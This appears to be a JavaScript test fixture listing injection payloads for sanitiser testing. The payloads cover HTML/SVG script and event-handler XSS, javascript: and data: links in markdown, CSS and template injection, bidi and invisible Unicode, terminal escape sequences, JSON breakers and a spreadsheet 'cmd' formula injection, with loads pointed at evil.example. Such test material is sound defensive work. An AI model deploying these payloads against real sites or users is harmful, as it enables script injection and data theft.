// Text that tries to be more than text: markup, handlers, URL schemes, CSS, template syntax, tricks of Unicode and of
// terminals, and breakers of JSON and of scripts. Whatever runs sets window.__pwned; whatever loads asks evil.example.
const RUN = 'window.__pwned=1';
const EVIL = 'https://evil.example/';

const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src=${EVIL}x.js></script>`,
  `<SCRIPT\n>${RUN}</SCRIPT\n>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><style>*{background:url(${EVIL}s.png)}</style></svg>`,
  `<math><mtext></table><img src=x onerror=${RUN}></math>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<object data=${EVIL}x.swf></object><embed src=${EVIL}x.swf>`,
  `<base href="${EVIL}">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<link rel=stylesheet href=${EVIL}x.css>`,
  `<form action=${EVIL}><button formaction=${EVIL}>send`,
  `</title></pre></code></textarea></style></template></main></body></html>`,
  `<!-- <![CDATA[ ]]> --!> <?php echo 1 ?>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<plaintext><listing><xmp>`,
];
const HANDLERS = [
  `"'><img src=${EVIL}x.png onerror=${RUN}>`,
  `" onfocus=${RUN} autofocus tabindex=1 x="`,
  `' onmouseover='${RUN}`,
  `\` onclick=${RUN} \``,
  `" style="position:fixed;inset:0" onpointerover="${RUN}`,
  `<details open ontoggle=${RUN}>`,
  `<body onload=${RUN}><video autoplay onloadstart=${RUN}><source>`,
  `<input autofocus onfocus=${RUN}><select onfocus=${RUN} autofocus>`,
  `<a href=# onclick=${RUN} accesskey=j>`,
];
const SCHEMES = [
  `<a href="javascript:${RUN}">go</a>`,
  `[md](javascript:${RUN})`,
  `[md](JaVaScRiPt&#58;${RUN})`,
  `[md](java\tscript:${RUN})`,
  `[md](\u0001javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `[md](vbscript:${RUN}) [md](data:text/html;base64,PHNjcmlwdD4=)`,
  `[md](//evil.example/x) [md](\\\\evil.example\\x)`,
  `[md](https://user@evil.example/) [md](https://evil.example%00.example.org/)`,
  `![img](${EVIL}x.png) ![img](data:image/svg+xml,<svg onload=${RUN}>)`,
  `[r] <${EVIL}>\n\n[r]: data:text/html,<script>${RUN}</script>`,
  `[a][x] ![b][x]\n\n[x]: javascript:${RUN} "title\\"><img src=x onerror=${RUN}>"`,
  `[event](#e-1"onclick=${RUN}) [x](#constructor)`,
];
const STYLES = [
  `<style>@import "${EVIL}x.css"; body{display:none}</style>`,
  `<p style="background:url(${EVIL}x.png);position:fixed;inset:0">over everything</p>`,
  `<div class="present sheet finder skip sr"><p hidden>hidden</p></div>`,
  `expression(${RUN}) -moz-binding:url(${EVIL}x.xml#a)`,
];
const TEMPLATES = [
  `{{ 7777*7777 }} {% include "run.html" %} {# gone #}`,
  `{{ <script> }} {% set x = 1 %}{{ __tera_context }}`,
  `\${7777*7777} <%= 7777*7777 %> #{7777*7777} [[${RUN}]]`,
  `runpress-main-slot- <title>runpress-head-slot</title>`,
];
const UNICODE = [
  `\u202etxt\u202c \u2066x \u2069 \u061c \u200f`,
  `\ufeff\u200b\u2060\u00ad\u180e\u3164\u{e0100}\u2028\u2029 invisible`,
  `\ufdd0 \uffff \u{1fffe} \u{e0041}\u{e007f}`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e \u2039img\u203a`,
  `${'\u0300'.repeat(300)} ${'\u0e01\u0e49'.repeat(400)}`,
  `${'w'.repeat(4000)} ${'名'.repeat(900)}`,
  `\u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u05d0\u05d1\u05d2 \u0627\u0644\u0639`,
  `e\u0301 vs \u00e9 K\u212a \u0130i\u0131I \ud7ff`,
];
const TERMINAL = [
  `\u001b[31mred\u001b[0m \u001b[1;5;7;8;38;2;255;255;255m`,
  `\u001b]8;;javascript:${RUN}\u0007link\u001b]8;;\u0007`,
  `\u001b]0;title\u0007\u001b]52;c;cGF3bmVk\u0007\u001bP1\u001b\\`,
  `\u001b[2J\u001b[H\u001b[999;999H over\rwritten \u0001\u0008\u007f\u009b31m`,
];
const JSONS = [
  `"}]);${RUN};//`,
  `');${RUN};('`,
  `\u2028${RUN}\u2029 </script><!--<script>`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e \\`,
  `__proto__ constructor toString hasOwnProperty`,
  `=HYPERLINK("${EVIL}","x") +1+cmd|' /C calc'!A0 @SUM(1)`,
  `a,b;c\t"d" | e | --- | \`\`\` ~~~ **bold** <!-- -->`,
];

/** All of them. */
export const ALL = [MARKUP, HANDLERS, SCHEMES, STYLES, TEMPLATES, UNICODE, TERMINAL, JSONS].flat();
const SETS = 8;
/** All of them in a few texts, each with some of every sort, so that every field of every format meets each. */
export const TEXTS = Array.from({ length: SETS }, (_, set) => ALL.filter((_, index) => index % SETS === set).join(' '));
